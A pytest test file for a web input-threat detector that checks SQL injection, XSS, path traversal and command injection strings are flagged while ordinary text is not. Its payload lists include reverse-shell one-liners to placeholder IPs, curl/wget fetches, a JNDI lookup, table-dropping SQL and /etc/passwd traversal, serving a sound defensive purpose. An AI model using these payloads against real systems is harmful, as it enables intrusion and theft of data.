from __future__ import annotations

import pytest

from steersman.engine.threats import Field, Kind, inspect_value

SQL = [
    "' or 1=1--",
    "x' OR 'a'='a",
    '") or ("a"="a',
    "1 or 1=1",
    "1)) and 8148=8148",
    "admin'--",
    "admin'/*",
    "1' and sleep(5)#",
    "-1 union all select 1,2,3",
    "union/**/select/**/1",
    "un/**/ion sel/**/ect 1",
    "/*!50000union*/ select 1",
    "1;select pg_sleep(5)",
    "1; drop table users",
    "'; exec xp_cmdshell('dir')--",
    "1 waitfor delay '0:0:5'--",
    "1 order by 10--",
    "' having 1=1--",
    "1 procedure analyse()",
    "1 into outfile '/tmp/x'",
    "select * from users where id=1",
    "(select password from users)",
    "insert into users values (1,2)",
    "1 and ascii(substr(user(),1,1))>64",
    "extractvalue(1,concat(0x7e,version()))",
    "char(65)||char(66)||char(67)",
    "@@version",
    "password::text",
    "' || pg_sleep(5)--",
    "'{\"b\":2}'::jsonb <@ '{\"a\":1}'::jsonb",
    "id[$ne]",
    '{"$gt": ""}',
    "' && this.password.match(/a/)//",
    "18446744073709551615",
    "1.e(ascii)",
    "’ OR ’1’=’1",
]
XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//x>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert()>",
    "<x onclick=alert(1)>y",
    '" onfocus=alert(1) autofocus="',
    "javascript:alert(1)",
    "jav\tascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    '"><h1>hello</h1>',
    "';alert(1)//",
    '"-alert(1)-"',
    "alert`1`",
    "[1].map(alert)",
    "document.cookie",
    "window['alert'](1)",
    "self[Object.keys(self)[5]](1)",
    "setTimeout(name, 1)",
    "new Function`alert(1)`",
    "{{constructor.constructor('alert(1)')()}}",
    '<div style="width: expression(alert(1))">',
    "-moz-binding:url(//x)",
    "<math><a xlink:href=//x>",
    "<!ENTITY x SYSTEM 'file:///x'>",
    "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
    "&#x3c;script&#x3e;",
    "\\u003cimg src=1 onerror=alert(1)\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%C0%BCscript%C0%BE",
]
PATHS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fboot.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "C:/boot.ini",
    "/proc/self/environ",
]
COMMANDS = [
    ";id",
    "|/usr/bin/id",
    "x; cat /etc/passwd",
    "127.0.0.1 && whoami",
    "$(curl http://x/)",
    "a;wget${IFS}http://x",
    "() { :;}; /bin/bash -c id",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "powershell -enc SQBFAFgA",
    "cmd.exe /c dir",
    "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
    "${jndi:ldap://x/a}",
    '<!--#exec cmd="id"-->',
    ";w'h'o\"a\"mi",
]
HONEST = [
    "",
    "O'Brien",
    "1 = 1 is true",
    "select a drop-down from the table",
    "Select the best option from the list, or update your order.",
    "rock 'n' roll",
    "c/ caridad s/n",
    "22997112x",
    "it's John's and Mary's",
    "the union of all selected users",
    "I like it, and so do you; drop me a line",
    "a < b and b > c",
    "tom & jerry",
    "me@example.org",
    "https://example.org/a/b?c=d&e=f#g",
    "2026-11-25T19:12:15+00:00",
    "Mozilla/5.0 (X11; Linux x86_64; rv:141.0) Gecko/20100101 Firefox/141.0",
    "price <= 100 EUR",
    "C++ and C#",
    "50% off, 100% cotton",
    '{"theme": "dark"}',
    "see sleep(3) and select(2) for more",
    "if x == 'a' or y == 'b':",
    "the function is called once = one time",
    "什么是数据库注入攻击",
    "../img/logo.png",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x-y_z",
]


def _kind(value: str, field: Field = Field.QUERY) -> Kind:
    return inspect_value(value, field).kind


@pytest.mark.parametrize("value", SQL)
def test_sql_in_a_value_is_found(value: str) -> None:
    assert _kind(value) is Kind.SQL


@pytest.mark.parametrize("value", XSS)
def test_script_in_a_value_is_found(value: str) -> None:
    assert _kind(value) is Kind.XSS


@pytest.mark.parametrize("value", PATHS)
def test_a_path_out_of_its_folder_is_found(value: str) -> None:
    assert _kind(value) is Kind.PATH


@pytest.mark.parametrize("value", COMMANDS)
def test_a_command_in_a_value_is_found(value: str) -> None:
    assert _kind(value) is Kind.COMMAND


@pytest.mark.parametrize("value", HONEST)
@pytest.mark.parametrize("field", list(Field))
def test_an_honest_value_is_none_in_any_field(value: str, field: Field) -> None:
    assert _kind(value, field) is Kind.NONE


@pytest.mark.parametrize(
    "value",
    [
        "whoami", "visudo", "'ifconfig'", ";rmt --version", "aa-disable nginx", "busybox -c 'echo hi'", "c{a,hown}t", "!12",
        'if "%1"=="/?" ...', "if/i a==b calc", 'FOR /F "delims=," %% IN (a.txt) DO @echo %%', "\r\nQUIT", '""l""s""  -l', "pi>()ng 127.0.0.1",
    ],
)  # fmt: skip
def test_commands_that_stand_alone_or_are_torn_are_found(value: str) -> None:
    assert _kind(value, Field.FORM) is Kind.COMMAND


@pytest.mark.parametrize(
    "name", [".htaccess", ".boto", "a/.env", "settings.php", "wp-config_php.txt", "config. php", "web.config"]
)
def test_an_upload_named_like_what_a_server_runs_is_found(name: str) -> None:
    assert _kind(name, Field.FILE_NAME) in {Kind.COMMAND, Kind.PATH}


@pytest.mark.parametrize(
    "name", ["report.pdf", "config.yml", "settings.json", "a.b.c", "backup-2026.tar.gz", "图.png", "php_settings.pdf"]
)
def test_an_upload_with_an_honest_name_is_none(name: str) -> None:
    assert _kind(name, Field.FILE_NAME) is Kind.NONE


@pytest.mark.parametrize("value", [*SQL, *XSS, *PATHS, *COMMANDS])
def test_in_free_text_attacks_are_only_observed(value: str) -> None:
    verdict = inspect_value(value, Field.FREE_TEXT)
    assert verdict.kind is Kind.NONE
    if inspect_value(value, Field.JSON).is_attack:
        assert verdict.observed is inspect_value(value, Field.JSON).kind
        assert verdict.reason.startswith("only observed")


def test_a_reason_names_what_was_seen_and_the_encodings_around_it() -> None:
    verdict = inspect_value("%2527%2520or%25201%253D1", Field.QUERY)
    assert "a quote ends a string and a comparison follows" in verdict.reason
    assert "behind percent" in verdict.reason
    assert verdict.decoded == "' or 1=1"
